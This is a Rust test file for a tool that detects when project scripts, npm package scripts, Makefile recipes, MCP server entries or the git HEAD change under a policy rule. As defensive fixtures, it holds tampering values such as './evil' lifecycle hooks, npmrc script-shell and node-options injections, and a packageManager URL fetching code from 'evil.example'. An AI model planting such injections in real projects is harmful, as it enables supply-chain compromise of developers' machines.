//! What rules are bound to: which changes of a project change a definition, and which do not.

mod members;
mod recipes;

use countersign::analysis::path::AbsPath;
use countersign::policy::definition::{Bound, Defined, Definition};
use countersign::world::{Folder, MemoryFolder, MemoryWorld, World, WorldError};
use proptest::prelude::*;

const ROOT: &str = "/home/u/proj";

/// The world with these files in the workspace.
fn world(files: &[(&str, &str)]) -> MemoryWorld {
    let folder = files.iter().fold(MemoryFolder::new(), |folder, (name, content)| folder.with(name, *content));
    MemoryWorld::new(AbsPath::parse(ROOT).expect("a path"), folder)
}

fn at(name: &str) -> String {
    format!("{ROOT}/{name}")
}

fn script(file: &str) -> Definition {
    Definition::Script { file: at(file) }
}

fn package(name: &str) -> Definition {
    Definition::PackageScript { file: at("package.json"), name: name.into() }
}

fn of_member(member: &str, name: &str) -> Definition {
    Definition::MemberScript { folder: ROOT.into(), member: member.into(), name: name.into() }
}

fn recipe(file: &str, name: &str) -> Definition {
    Definition::Recipe { file: at(file), name: name.into() }
}

fn server(name: &str) -> Definition {
    Definition::McpServer { file: at(".mcp.json"), name: name.into() }
}

fn commit() -> Definition {
    Definition::Commit { repository: ROOT.into() }
}

fn read(definition: &Definition, files: &[(&str, &str)]) -> Option<Defined> {
    definition.read(&world(files))
}

/// Whether a rule that is bound to the definition in the one world holds in the other.
fn holds(definition: &Definition, before: &[(&str, &str)], now: &[(&str, &str)]) -> bool {
    let bound = Bound::now(definition.clone(), &world(before)).unwrap_or_else(|| panic!("{definition} is readable"));
    assert!(bound.is_unchanged(&world(before)), "{definition} is not what it is");
    bound.is_unchanged(&world(now))
}

/// Asserts it of one file, for several texts that it may have instead.
fn changed_by(definition: &Definition, file: &str, before: &str, texts: &[&str]) {
    for now in texts {
        assert!(!holds(definition, &[(file, before)], &[(file, now)]), "{definition} is unchanged with {now}");
    }
}

fn unchanged_by(definition: &Definition, file: &str, before: &str, texts: &[&str]) {
    for now in texts {
        assert!(holds(definition, &[(file, before)], &[(file, now)]), "{definition} is changed by {now}");
    }
}

#[test]
fn a_script_is_its_bytes_and_whether_it_is_there() {
    let run = script("run.sh");
    assert!(holds(&run, &[("run.sh", "echo a\n")], &[("run.sh", "echo a\n"), ("other.sh", "x")]));
    changed_by(&run, "run.sh", "echo a\n", &["echo b\n", "echo a", "echo a\n\n", ""]);
    assert!(!holds(&run, &[("run.sh", "echo a")], &[]));
    assert!(!holds(&run, &[], &[("run.sh", "echo a")]));
    assert!(!holds(&run, &[], &[("run.sh", "")]));
    assert_eq!(read(&run, &[("run.sh", "echo a\n")]).expect("readable").text.as_deref(), Some("echo a\n"));
    // A folder, and what is too large.
    assert!(read(&run, &[("run.sh/x", "")]).is_none());
    let large = "#".repeat((1 << 20) + 1);
    assert!(read(&run, &[("run.sh", &large)]).is_none());
    assert!(read(&run, &[("run.sh", large.get(1..).expect("one less"))]).is_some());
    assert!(Definition::Script { file: "run.sh".into() }.read(&world(&[("run.sh", "")])).is_none());
}

#[test]
fn bytes_that_are_no_text_count_and_are_not_shown() {
    let of = |bytes: &[u8]| {
        let folder = MemoryFolder::new().with("run", bytes).with("Makefile", bytes);
        let world = MemoryWorld::new(AbsPath::parse(ROOT).expect("a path"), folder);
        [script("run"), recipe("Makefile", "lint")].map(|definition| definition.read(&world).expect("readable"))
    };
    for (one, other) in of(b"a\xff").iter().zip(of(b"a\xfe")) {
        assert_ne!(one.digest, other.digest);
        assert_eq!(one.text, None);
    }
}

/// A machine on which every path leads to one large program.
#[derive(Debug)]
struct Leads(&'static str);

impl World for Leads {
    fn resolve(&self, _: &AbsPath, _: &str) -> Result<Option<AbsPath>, WorldError> {
        Ok(AbsPath::parse(self.0))
    }

    fn read(&self, path: &AbsPath, limit: usize) -> Result<Option<Vec<u8>>, WorldError> {
        Err(WorldError::TooLarge(path.to_string(), limit))
    }

    fn exists(&self, _: &AbsPath) -> bool {
        true
    }

    fn open_folder(&self, path: &AbsPath) -> Result<Option<Box<dyn Folder>>, WorldError> {
        Err(WorldError::NotAFolder(path.to_string()))
    }
}

#[test]
fn an_installed_program_is_where_a_link_leads_to() {
    let python = script(".venv/bin/python");
    for installed in ["/usr/bin/python3.11", "/home/u/.local/share/uv/python/cpython-3.12/bin/python3.12"] {
        let bound = Bound::now(python.clone(), &Leads(installed)).unwrap_or_else(|| panic!("{installed}"));
        assert!(bound.is_unchanged(&Leads(installed)) && !bound.is_unchanged(&Leads("/usr/bin/python3.13")));
    }
    // What is no link, lies in the project, or anywhere else.
    for other in ["/home/u/proj/.venv/bin/python", "/home/u/proj/.pyenv/versions/x/python", "/home/u/x/python", "/tmp/python"] {
        assert!(Bound::now(python.clone(), &Leads(other)).is_none(), "{other}");
    }
}

#[cfg(unix)]
#[test]
fn a_link_in_place_of_a_script_is_a_change() {
    use countersign::world::OsWorld;

    let folder = tempfile::tempdir().expect("a folder");
    let root = folder.path().canonicalize().expect("its path");
    std::fs::write(root.join("run.sh"), "echo a").expect("written");
    let file = root.join("run.sh").to_str().expect("UTF-8").to_owned();
    let bound = Bound::now(Definition::Script { file }, &OsWorld).expect("readable");
    assert!(bound.is_unchanged(&OsWorld));
    std::fs::rename(root.join("run.sh"), root.join("real.sh")).expect("moved");
    std::os::unix::fs::symlink(root.join("real.sh"), root.join("run.sh")).expect("linked");
    assert!(!bound.is_unchanged(&OsWorld));
}

const PACKAGE: &str = r#"{
  "name": "x", "version": "1.0.0",
  "scripts": {
    "build": "npm run gen && tsc -p .",
    "gen": "node gen.js",
    "pregen": "rimraf out",
    "lint": "eslint .",
    "fmt": "prettier --write ."
  },
  "dependencies": { "a": "1" }
}"#;

#[test]
fn a_package_script_is_what_runs_by_its_name() {
    let with = |from: &str, to: &str| {
        assert!(PACKAGE.contains(from), "{from}");
        PACKAGE.replace(from, to)
    };
    let build = package("build");
    let same = [
        with("1.0.0", "1.0.1"),
        with(r#""a": "1""#, r#""b": "2""#),
        with("eslint .", "eslint src"),
        with("prettier --write .", "./evil"),
        with("\n", "\n\n  "),
    ];
    unchanged_by(&build, "package.json", PACKAGE, &same.each_ref().map(String::as_str));
    let changed = [
        with("tsc -p .", "tsc  -p ."),
        with("node gen.js", "node evil.js"),
        with("rimraf out", "./evil"),
        with(r#""lint":"#, r#""prebuild": "./evil", "lint":"#),
        with(r#""lint":"#, r#""postbuild": "./evil", "lint":"#),
        with(r#""lint":"#, r#""postgen": "./evil", "lint":"#),
        with(r#""build": "npm run gen && tsc -p .","#, ""),
        with(r#""name": "x""#, r#""packageManager": "yarn@https://evil.example/x.js""#),
        with(r#""lint":"#, r#""build": "./evil", "lint":"#),
        with(r#""dependencies""#, r#""scripts": {"build": "./evil"}, "dependencies""#),
        String::new(),
        "[]".to_owned(),
        r#"{"scripts": []}"#.to_owned(),
        r#"{"scripts": {"build": ["./evil"]}}"#.to_owned(),
    ];
    changed_by(&build, "package.json", PACKAGE, &changed.each_ref().map(String::as_str));
    assert!(!holds(&build, &[("package.json", PACKAGE)], &[]));
    assert_eq!(
        read(&build, &[("package.json", PACKAGE)]).expect("readable").text.expect("text"),
        "build: npm run gen && tsc -p .\ngen: node gen.js\npregen: rimraf out"
    );
}

#[test]
fn a_script_that_is_not_there_may_come() {
    let before = r#"{"scripts": {}}"#;
    changed_by(&package("jest"), "package.json", before, &[r#"{"scripts": {"jest": "./evil"}}"#, r#"{"scripts": {"prejest": "./evil"}}"#]);
    unchanged_by(&package("jest"), "package.json", before, &[r#"{"scripts": {"lint": "x"}}"#, "{}"]);
    assert!(!holds(&package("jest"), &[], &[("package.json", r#"{"scripts": {"jest": "./evil"}}"#)]));
    assert!(read(&package("jest"), &[("package.yaml", "")]).is_none());
    // npm runs a file where no script is called so, and two scripts in place of a third.
    assert!(!holds(&package("start"), &[("package.json", "{}")], &[("package.json", "{}"), ("server.js", "evil()")]));
    changed_by(&package("restart"), "package.json", before, &[r#"{"scripts": {"stop": "./evil"}}"#]);
}

#[test]
fn scripts_that_are_chosen_when_it_runs_are_all_scripts() {
    for text in [
        "run-p build:*",
        "npm-run-all 'build:**'",
        "npm run $NEXT",
        "npm run `cat next`",
        "npm run ot\\\\her",
        "run-s {a,other}",
        "npm install",
        // By other names of the same, and by what is enough to tell it from the others.
        "npm un x",
        "npm ic",
        "npm cit",
        "npm cleanInstall",
        "npm insta",
        "npm rebu",
        "npm audit fix",
        "pnpm ln",
        // Without a command, yarn installs.
        "yarn",
        "yarn && tsc",
        "corepack yarn --immutable; tsc",
        "concurrently \\\"yarn\\\"",
        "concurrently \\\"npm:*\\\"",
    ] {
        let with = |other: &str| format!(r#"{{"scripts": {{"all": "{text}", "other": "{other}"}}}}"#);
        changed_by(&package("all"), "package.json", &with("a"), &[&with("b")]);
    }
    // As pnpm chooses them on its command line.
    for name in ["/^build:/", "build:*", "build:{a,b}"] {
        let with = |text: &str| format!(r#"{{"scripts": {{"build:a": "{text}"}}}}"#);
        changed_by(&package(name), "package.json", &with("a"), &[&with("b")]);
    }
    for text in ["npm run other", "npm run \\\"oth\\\"er", "concurrently npm:other", "node --run other", "pnpm other&&x", "(yarn other)"] {
        let with = |other: &str, more: &str| format!(r#"{{"scripts": {{"all": "{text}", "other": "{other}", "more": "{more}"}}}}"#);
        changed_by(&package("all"), "package.json", &with("a", "a"), &[&with("b", "a")]);
        unchanged_by(&package("all"), "package.json", &with("a", "a"), &[&with("a", "b")]);
    }
    // By short names of the script for tests, and by any beginning of one.
    for text in ["npm t", "npm tst", "npm tes"] {
        let with = |test: &str| format!(r#"{{"scripts": {{"all": "{text}", "test": "{test}"}}}}"#);
        changed_by(&package("all"), "package.json", &with("a"), &[&with("b")]);
    }
    let with = |version: &str| format!(r#"{{"version": "{version}", "scripts": {{"v": "sh -c \"$npm_package_version\""}}}}"#);
    changed_by(&package("v"), "package.json", &with("1"), &[&with("./evil")]);
}

#[test]
fn settings_that_change_how_scripts_run_count() {
    let before = [("package.json", PACKAGE), (".npmrc", "registry=https://r.example\n")];
    let with = |npmrc| [("package.json", PACKAGE), (".npmrc", npmrc)];
    for same in ["", "# registry=https://r.example", "registry = https://other.example\r\n//r.example/:_authToken=abc\n"] {
        assert!(holds(&package("build"), &before, &with(same)), "{same}");
    }
    for other in ["script-shell=./evil", "registry=x\rscript-shell=./evil", "node-options=--require=./evil.js", "${X}script-shell=./evil"] {
        assert!(!holds(&package("build"), &before, &with(other)), "{other}");
    }
    for name in [".yarnrc", ".yarnrc.yml", "pnpm-workspace.yaml", "bunfig.toml"] {
        assert!(!holds(&package("build"), &[("package.json", PACKAGE)], &[("package.json", PACKAGE), (name, "x")]), "{name}");
    }
    // Also those of the folders above.
    let nested = Definition::PackageScript { file: at("a/package.json"), name: "build".into() };
    assert!(!holds(&nested, &[("a/package.json", PACKAGE)], &[("a/package.json", PACKAGE), (".npmrc", "script-shell=./evil")]));
    // A token is not shown.
    let token = read(&package("build"), &with("script-shell=x\n[a]\n_authToken[]=abc123")).expect("readable").text.expect("text");
    assert!(token.contains("script-shell=x") && !token.contains("abc123"), "{token}");
}

#[test]
fn a_server_is_its_entry() {
    let before = r#"{"mcpServers": {"db": {"command": "db-mcp", "args": ["-r"], "env": {"TOKEN": "secret-1"}}, "web": {"command": "w"}}}"#;
    let with = |from: &str, to: &str| {
        assert!(before.contains(from), "{from}");
        before.replace(from, to)
    };
    let same = [
        with(r#""command": "w""#, r#""command": "v""#),
        with(r#""command": "db-mcp", "args": ["-r"]"#, r#""args":["-r"],"command":"db-mcp""#),
    ];
    unchanged_by(&server("db"), ".mcp.json", before, &same.each_ref().map(String::as_str));
    let changed = [
        with("db-mcp", "./evil"),
        with("-r", "-w"),
        with("secret-1", "secret-2"),
        with(r#""args""#, r#""cwd": "/evil", "args""#),
        with(r#""web""#, r#""db""#),
        with(r#""mcpServers""#, r#""other""#),
        before.replacen('{', r#"{"servers": {"db": {"command": "./evil"}}, "#, 1),
        String::new(),
    ];
    changed_by(&server("db"), ".mcp.json", before, &changed.each_ref().map(String::as_str));
    assert!(!holds(&server("new"), &[], &[(".mcp.json", r#"{"mcpServers": {"new": {}}}"#)]));
    let text_of = |text: &str| read(&server("db"), &[(".mcp.json", text)]).expect("readable").text.expect("text");
    let text = text_of(before);
    assert!(text.contains("db-mcp") && text.contains("TOKEN") && !text.contains("secret"), "{text}");
    // What is no credential is shown, however it is nested.
    let text = text_of(&with(r#""env": {"TOKEN": "secret-1"}"#, r#""headers": "secret-1", "options": {"image": "./evil"}"#));
    assert!(text.contains("./evil") && !text.contains("secret"), "{text}");
    // Tools spell the name of the server in fewer letters.
    changed_by(
        &server("my_db"),
        ".mcp.json",
        r#"{"mcpServers": {"my.db": {"command": "a"}}}"#,
        &[r#"{"mcpServers": {"my.db": {"command": "b"}}}"#],
    );
}

#[test]
fn a_commit_is_where_head_leads() {
    const A: &str = "0123456789012345678901234567890123456789";
    const B: &str = "9876543210987654321098765432109876543210";
    let head = (".git/HEAD", "ref: refs/heads/main\n");
    let packed = format!("# pack-refs with: peeled fully-peeled sorted \n{B} refs/heads/mai\n{A} refs/heads/main\n^{B}\n");
    let line = format!("{A}\n");
    let loose = [head, (".git/refs/heads/main", line.as_str())];
    assert!(holds(&commit(), &loose, &[head, (".git/packed-refs", &packed)]));
    assert!(holds(&commit(), &loose, &[(".git/HEAD", &line)]));
    assert!(!holds(&commit(), &loose, &[head, (".git/refs/heads/main", B)]));
    // What has a file of its own is that, whatever the list says.
    assert!(!holds(&commit(), &loose, &[head, (".git/packed-refs", &packed), (".git/refs/heads/main", B)]));
    assert!(holds(&commit(), &loose, &[(".git/HEAD", "ref: refs/heads/a"), (".git/refs/heads/a", "ref: refs/heads/main"), loose[1]]));
    let worktree = [
        (".git", "gitdir: /home/u/proj/.main/worktrees/w\n"),
        (".main/worktrees/w/HEAD", "ref: refs/heads/main\n"),
        (".main/worktrees/w/commondir", "../..\n"),
        (".main/refs/heads/main", line.as_str()),
    ];
    assert!(holds(&commit(), &loose, &worktree));
    for broken in [
        &[][..],
        &[head],
        &[(".git/HEAD", "")],
        &[(".git/HEAD", "ref: refs/heads/../../x"), (".git/x", line.as_str())],
        &[(".git/HEAD", "ref: refs/heads/.invalid")],
        &[(".git/HEAD", "ref: refs/heads/main"), (".git/refs/heads/main", "ref: refs/heads/main")],
        &[head, (".git/refs/heads/main", "0123")],
    ] {
        assert!(read(&commit(), broken).is_none(), "{broken:?}");
    }
}

#[test]
fn kinds_and_names_are_told_apart() {
    let file = [("Makefile", "a:\n\tx\n")];
    let one = read(&recipe("Makefile", ""), &file).expect("readable");
    let script = read(&script("Makefile"), &file).expect("readable");
    assert_ne!(one.digest, script.digest);
    // Text of one script cannot pass for another one.
    let joined = [("package.json", r#"{"scripts": {"build": "a\npostbuild: b"}}"#)];
    let apart = [("package.json", r#"{"scripts": {"build": "a", "postbuild": "b"}}"#)];
    assert!(!holds(&package("build"), &joined, &apart));
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_edit_of_what_a_script_runs_is_a_change(at in 0..64_usize, put in "[ -~]{1,4}", take in 0..3_usize) {
        for (definition, file, start, text, end) in [
            (script("run"), "run", "", "echo a && ./b c", ""),
            (recipe("Makefile", "lint"), "Makefile", "lint: gen\n\ta\ngen:\n\t", "echo a && ./b c", "\nother:\n\tx\n"),
            (recipe("justfile", "lint"), "justfile", "lint: gen\n  a\ngen:\n  ", "echo a && ./b c", "\nother:\n  x\n"),
        ] {
            let at = at % text.len();
            let mut edited = text.to_owned();
            edited.replace_range(at..(at + take).min(text.len()), &put);
            prop_assume!(edited != text && !edited.starts_with([' ', '\t']) && !edited.ends_with('\\'));
            let before = format!("{start}{text}{end}");
            let now = format!("{start}{edited}{end}");
            prop_assert!(!holds(&definition, &[(file, &before)], &[(file, &now)]), "{}", now);
            let with = |script: &str| serde_json::json!({"scripts": {"all": "npm run gen", "gen": script}}).to_string();
            prop_assert!(!holds(&package("all"), &[("package.json", &with(text))], &[("package.json", &with(&edited))]), "{}", edited);
        }
    }
}
